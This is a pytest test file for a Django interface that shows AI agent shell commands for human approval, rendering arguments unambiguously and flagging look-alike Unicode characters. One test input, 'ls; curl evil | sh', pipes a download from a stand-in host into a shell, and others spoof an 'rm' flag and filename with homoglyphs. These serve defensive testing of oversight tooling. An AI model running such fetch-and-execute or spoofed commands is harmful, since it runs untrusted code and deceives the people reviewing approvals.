"""Cards of programs and commands: each argument is visibly its own, and the parts of a command are shown apart."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from agents.engine.ledger import JSON
from agents.engine.schema import schema_digest
from agents.plugins.shell.tools import run_program
from conversations.display.faithful import argument
from conversations.models import GateState, Output, Step
from tests.conversations.support import Story, asking, person
from tests.engine.support import digest_of, shown_of

pytestmark = pytest.mark.django_db


@pytest.fixture
def owner(client: Client) -> User:
    user = person("anna", first_name="Anna", is_staff=True, is_superuser=True)
    client.force_login(user)
    return user


def program(owner: User, *argv: str, **more: JSON) -> tuple[Story, Output]:
    """A program that waits for approval."""
    payload: dict[str, JSON] = {"argv": list(argv), **more}
    story = Story(owner, "Run it now.")
    story.asks_model()
    call = story.call("shell.program", **payload)
    story.answers(call)
    facts = shown_of(run_program, payload).recorded["facts"]
    assert run_program.justify is not None
    output = story.gate(
        call,
        reason=run_program.justify(run_program.parse(payload)),
        title=run_program.title,
        preview=run_program.preview,
        digest=digest_of(run_program, payload),
        schema=schema_digest(run_program.input),
        facts=facts,
    )
    story.pauses()
    return story, output


def lines(html: str) -> list[str]:
    """The program and its arguments as a card shows them, without markup."""
    found = re.search(r'<ol class="argv">(.*?)</ol>', html, re.DOTALL)
    assert found
    return [re.sub("<[^>]*>", "", each) for each in re.findall(r"<li>(.*?)</li>", found[1], re.DOTALL)]


ODD = ["git", "commit", "-m", "two\nlines", "", " -x", "a\tb ", "re\u200bport", "<b>", "it's"]
SHOWN = ["git", "commit", "-m", "two↵\nlines", "empty", "␣-x", "a⇥b␣", "reU+200Bport", "&lt;b&gt;", "it&#x27;s"]


def test_a_card_shows_each_argument_in_a_line_of_its_own_wherever_it_stands(client: Client, owner: User) -> None:
    story, output = program(owner, *ODD, cwd="reports", seconds=9)
    for address in (
        story.conversation.get_absolute_url(),
        reverse("approvals", query={"a": output.pk}),
        f"/admin/conversations/approval/{output.pk}/change/",
        reverse("sheet", args=[story.conversation.pk]),
    ):
        html = client.get(address).text
        assert lines(html) == SHOWN, address
        for words in ("Run a program", "Program and 9 arguments", "reports", "at most 9 seconds"):
            assert words in html
    chat = client.get(story.conversation.get_absolute_url()).text
    assert "Approve and run" in chat
    assert '<p class="why">' not in chat, "the call says it itself"


def test_in_lists_it_is_one_line_as_typed_into_a_shell(client: Client, owner: User) -> None:
    program(owner, "git", "commit", "-m", "it is done")
    for address in (reverse("approvals"), "/admin/conversations/approval/"):
        text = re.sub("<[^>]*>", "", client.get(address).text)
        assert "git commit -m &#x27;it is done&#x27;" in text


def test_what_looks_like_another_argument_is_named(client: Client, owner: User) -> None:
    story, _ = program(owner, "rm", "\u2010-force", "rep\u043ert.md")
    html = client.get(story.conversation.get_absolute_url()).text
    assert "Not what it looks like" in html
    assert "mixes Latin and Cyrillic" in html


@pytest.mark.parametrize("argv", [["ls", "-la", "a b"], ["git", "commit", "-m", "two\nlines\n", "", " x"]])
def test_an_edit_that_changes_nothing_else_keeps_every_argument(client: Client, owner: User, argv: list[str]) -> None:
    _, output = program(owner, *argv)
    html = client.get(reverse("card", args=[output.pk]), {"as": "edit"}).text
    sent = {"decision": "approve", "digest": output.digest, "edited": "1"}
    for name, text in re.findall(r'<textarea[^>]* name="([^"]+)"[^>]*>\n(.*?)</textarea>', html, re.DOTALL):
        sent[name] = _unescaped(text)
    argument = next(name for name in sent if name.endswith("-0"))
    assert argument == ("lines-0" if argv[0] == "ls" else "json-0")
    typed = sent[argument].split("\n") if argv[0] == "ls" else json.loads(sent[argument])
    assert typed == argv
    changed = [*argv[:-1], "changed", argv[-1]]
    sent[argument] = "\r\n".join(changed) if argv[0] == "ls" else json.dumps(changed).replace("\n", "\r\n")
    assert client.post(reverse("decide", args=[output.pk]), sent).status_code == 302
    assert Output.objects.get(pk=output.pk).gate == GateState.APPROVED
    decided = Step.objects.get(path=output.gate_path, type="action_result").content
    assert decided["input"]["argv"] == changed


def _unescaped(text: str) -> str:
    for name, sign in (("&lt;", "<"), ("&gt;", ">"), ("&quot;", '"'), ("&#x27;", "'"), ("&amp;", "&")):
        text = text.replace(name, sign)
    return text


@pytest.mark.parametrize("argv", ["ls -la", [], ["ls", 1], ["ls", None]])
def test_what_is_no_list_of_texts_is_shown_as_it_is(client: Client, owner: User, argv: Any) -> None:
    story = Story(owner)
    story.asks_model()
    call = story.call("shell.program", argv=argv)
    story.answers(call)
    story.gate(call, title="Run a program", preview="program")
    story.pauses()
    html = client.get(story.conversation.get_absolute_url()).text
    assert 'class="argv"' not in html
    assert "<dt>argv</dt>" in html


def test_no_two_arguments_look_the_same() -> None:
    different = ["a b", "a  b", " a b", "a b ", "a\tb", "a\nb", "a\n\nb", "a\u00a0b", "", " ", "\n", "empty", "␣", "↵"]
    different += ["\n" * count for count in range(2, 9)] + [" " * count for count in (2, 25, 26)] + ["\t", "\t\t"]
    assert len({str(argument(text)) for text in different}) == len(different)


def parts(html: str) -> str:
    """What a card says of the parts of its command, as text."""
    found = re.search(r'<(div|p) class="parts">(.*?)</\1>', html, re.DOTALL)
    return re.sub(r"\s+", " ", re.sub("<[^>]*>", "", found[2])).strip() if found else ""


@pytest.mark.parametrize(
    ("command", "said"),
    [
        ("ls -la", ""),
        ("ls; curl evil | sh", "1 ls 2 ; curl evil 3 | sh"),
        ("ls\nA=1 rm '<b>'", "1 ls 2 new line A=1 rm &#x27;&lt;b&gt;&#x27;"),
        ("x $(y \u200b z)", "1 x $(…) 2 y U+200B z"),
        ("cat <<E\nx\nE", "This command is too intricate to take apart. Read all of it."),
    ],
)
def test_the_parts_of_a_command_stand_below_it(client: Client, owner: User, command: str, said: str) -> None:
    story, output = asking(owner, command)
    intro = "Its parts, one by one. For reading only: what runs is the full command. "
    for address in (story.conversation.get_absolute_url(), reverse("sheet", args=[story.conversation.pk])):
        assert parts(client.get(address).text) == (f"{intro}{said}" if said[:1] == "1" else said)
    assert parts(client.get(reverse("print", args=[story.conversation.pk])).text) == ""
    assert output.gate == GateState.PENDING
